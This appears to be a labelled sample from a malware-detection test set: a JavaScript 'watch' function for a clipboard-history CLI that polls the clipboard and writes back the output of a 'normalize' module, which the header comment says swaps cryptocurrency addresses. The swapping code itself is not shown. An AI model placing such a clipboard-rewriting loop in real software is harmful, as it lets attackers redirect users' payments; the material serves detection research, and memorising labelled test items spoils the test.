// expect: malicious
// source: blind set 14 (a clipboard-history CLI on clipboardy): `watch` polls the clipboard and writes
// back what a "normalize" module in another file makes of it; that module swaps whole crypto addresses
import clipboard from 'clipboardy';
import { normalize } from './normalize.js';

export function watch(history, interval = 500) {
  let last = null;
  setInterval(async () => {
    const v = await clipboard.read();
    if (!v || v === last) return;
    const n = normalize(v);
    if (n !== v) await clipboard.write(n);
    last = n;
    history.push(n);
  }, interval);
}
